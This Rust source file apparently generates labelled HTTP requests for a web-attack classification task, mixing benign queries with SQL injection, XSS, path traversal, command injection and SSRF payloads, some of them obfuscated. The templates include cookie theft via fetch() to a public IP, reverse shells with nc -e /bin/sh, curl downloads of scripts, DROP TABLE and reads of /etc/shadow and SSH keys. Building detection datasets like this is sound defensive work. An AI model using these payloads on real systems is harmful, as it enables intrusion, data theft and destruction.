//! HTTP requests: ordinary ones with innocent look-alikes, and five kinds of attack.

use std::fmt::Write as _;

use super::values::{browser, domain, public_ip, user};
use crate::source::Source;
use crate::task::{Draft, rank};

pub(crate) const LABELS: &[&str] = &["benign", "sqli", "xss", "traversal", "command", "ssrf"];

pub(crate) fn draft(source: &mut Source, index: u64) -> Draft {
    let answer = rank(index, LABELS.len());
    Draft::labeled(LABELS, answer, event(source, answer))
}

/// A request of no particular kind, for running text.
pub(crate) fn any_request(source: &mut Source) -> String {
    let label = if source.chance(60) { 0 } else { source.position(LABELS.len()) };
    event(source, label).0
}

const PAGES: &[&str] = &[
    "/search",
    "/item",
    "/login",
    "/api/v1/users",
    "/download",
    "/view",
    "/report",
    "/cart",
    "/profile",
    "/news",
    "/api/v2/orders",
    "/export",
];
const KEYS: &[&str] = &["id", "q", "name", "page", "file", "user", "sort", "lang", "ref", "token", "category", "url"];

fn event(source: &mut Source, label: usize) -> (String, String) {
    let (payload, reason) = match LABELS[label] {
        "sqli" => sql_injection(source),
        "xss" => script(source),
        "traversal" => traversal(source),
        "command" => command(source),
        "ssrf" => forgery(source),
        _ => benign(source),
    };
    // Innocent values are encoded too, so that encoding alone gives nothing away.
    let payload = if source.obfuscates() { percent_encode(source, &payload) } else { payload.replace(' ', "+") };
    let (page, key) = (source.own(PAGES), source.own(KEYS));
    let (host, agent) = (domain(source), browser(source));
    let noise = format!("{}={}", source.own(KEYS), source.between(1, 99));
    let request = match source.below(4) {
        0 => format!("POST {page} HTTP/1.1 | Host: {host} | {agent} | {key}={payload}&{noise}"),
        1 => format!("GET {page}?{noise}&{key}={payload} HTTP/1.1 | Host: {host}"),
        _ => format!("GET {page}?{key}={payload} HTTP/1.1 | Host: {host} | {agent}"),
    };
    (request, reason)
}

fn benign(source: &mut Source) -> (String, String) {
    let value = match source.below(8) {
        0 => source
            .own(&[
                "red shoes",
                "select your seat",
                "drop in classes",
                "union station",
                "garden table",
                "script font",
                "order by phone",
                "alert system",
            ])
            .to_owned(),
        1 => source.between(1, 99_999).to_string(),
        2 => user(source).to_owned(),
        3 => {
            format!("{}.pdf", source.own(&["manual", "invoice-2024", "terms", "map", "menu", "guide", "slides", "etc"]))
        }
        4 => format!("https://{}/", domain(source)),
        5 => source.letters(12),
        6 => source.own(&["price:asc", "date:desc", "name:asc", "rating:desc"]).to_owned(),
        _ => source
            .own(&["O'Brien", "rock & roll", "50% off", "a<b", "cats; dogs", "C++", "tom@example.com", "what's new"])
            .to_owned(),
    };
    (value, "the values are plain data".into())
}

fn sql_injection(source: &mut Source) -> (String, String) {
    let table = source.own(&["users", "accounts", "orders", "cards", "sessions", "clients", "staff", "logins"]);
    let quote = source.any(&["'", "\"", "')", ""]);
    let (number, end) = (source.between(1, 99), source.any(&["--", "#", ";--", "/*"]));
    let (text, what) = match source.below(6) {
        0 => (format!("{number}{quote} OR {number}={number}{end}"), "an always true condition"),
        1 => (
            format!(
                "{quote} UNION SELECT {},{} FROM {table}{end}",
                source.any(&["name", "user", "1", "email"]),
                source.any(&["password", "hash", "2", "pin"])
            ),
            "a UNION over another table",
        ),
        2 => (format!("{number}{quote}; DROP TABLE {table}{end}"), "a DROP TABLE"),
        3 => (format!("{number}{quote} AND SLEEP({}){end}", source.between(2, 9)), "a timed SLEEP"),
        4 => (format!("{quote} OR '{0}'='{0}", source.letters(2)), "an always true condition"),
        _ => {
            (format!("{number}{quote} AND (SELECT COUNT(*) FROM {table})>{}{end}", source.below(9)), "a nested SELECT")
        }
    };
    (random_case(source, &text), format!("it carries {what}"))
}

fn script(source: &mut Source) -> (String, String) {
    let action = match source.below(4) {
        0 => format!("alert({})", source.between(1, 9)),
        1 => "alert(document.cookie)".to_owned(),
        2 => format!("fetch('//{}/?c='+document.cookie)", public_ip(source)),
        _ => format!("location='//{}/'", public_ip(source)),
    };
    let (text, what) = match source.below(6) {
        0 => (format!("<script>{action}</script>"), "a script tag"),
        1 => (format!("<img src=x onerror={action}>"), "an onerror handler"),
        2 => (format!("<svg onload={action}>"), "an onload handler"),
        3 => (format!("\"><script>{action}</script>"), "a script tag"),
        4 => (format!("<a href=javascript:{action}>x</a>"), "a javascript link"),
        _ => (format!("<body onpageshow={action}>"), "a page handler"),
    };
    (random_case(source, &text), format!("it carries {what}"))
}

fn traversal(source: &mut Source) -> (String, String) {
    let file = source.own(&[
        "etc/passwd",
        "etc/shadow",
        "windows/win.ini",
        "proc/self/environ",
        "var/log/auth.log",
        "root/.ssh/id_rsa",
        "etc/hosts",
        "boot.ini",
    ]);
    let step = source.any(&["../", "..\\", "....//", "..;/"]);
    let steps = step.repeat(source.between(2, 6) as usize);
    let start = source.any(&["", "", "/var/www/", "images/"]);
    let end = source.any(&["", "", "%00.png"]);
    (format!("{start}{steps}{file}{end}"), format!("the path climbs to {file}"))
}

fn command(source: &mut Source) -> (String, String) {
    let tool = match source.below(5) {
        0 => format!("cat /etc/{}", source.any(&["passwd", "shadow", "hosts"])),
        1 => source.any(&["id", "whoami", "uname -a", "ls -la /"]).to_owned(),
        2 => format!("curl http://{}/{}.sh", public_ip(source), source.letters(3)),
        3 => format!("nc {} {} -e /bin/sh", public_ip(source), source.between(1024, 9999)),
        _ => format!("ping -c {} {}", source.between(1, 20), public_ip(source)),
    };
    let program = tool.split(' ').next().unwrap_or_default().to_owned();
    let before = source.own(&["127.0.0.1", "report", "x", "a.txt", "eth0", "1", "home", "test"]);
    let text = match source.below(5) {
        0 => format!("{before};{tool}"),
        1 => format!("{before}|{tool}"),
        2 => format!("{before} && {tool}"),
        3 => format!("$({tool})"),
        _ => format!("{before}`{tool}`"),
    };
    (text, format!("a shell would run {program}"))
}

fn forgery(source: &mut Source) -> (String, String) {
    let target = match source.below(6) {
        0 => "169.254.169.254/latest/meta-data/".to_owned(),
        1 => format!("127.0.0.1:{}/", source.any(&["6379", "2375", "9200", "8080"])),
        2 => format!("localhost:{}/admin", source.any(&["22", "3306", "5000", "11211"])),
        3 => format!("[::1]:{}/", source.any(&["80", "8500", "2379"])),
        4 => "metadata.internal/computeMetadata/v1/".to_owned(),
        _ => format!("10.0.{}.{}/", source.below(8), source.between(2, 250)),
    };
    let scheme = source.any(&["http", "gopher", "dict", "http"]);
    (format!("{scheme}://{target}"), "the URL points to an inner service".into())
}

/// Case changes that databases and browsers ignore; only in disguised items.
fn random_case(source: &mut Source, text: &str) -> String {
    if !source.obfuscates() {
        return text.to_owned();
    }
    text.chars().map(|letter| if source.chance(40) { letter.to_ascii_lowercase() } else { letter }).collect()
}

/// Percent-encodes every reserved character and, now and then, a letter.
fn percent_encode(source: &mut Source, text: &str) -> String {
    let mut encoded = String::with_capacity(text.len() * 2);
    for byte in text.bytes() {
        if byte.is_ascii_alphanumeric() && !source.chance(4) {
            encoded.push(char::from(byte));
        } else {
            write!(encoded, "%{byte:02X}").expect("writing to a string cannot fail");
        }
    }
    encoded
}
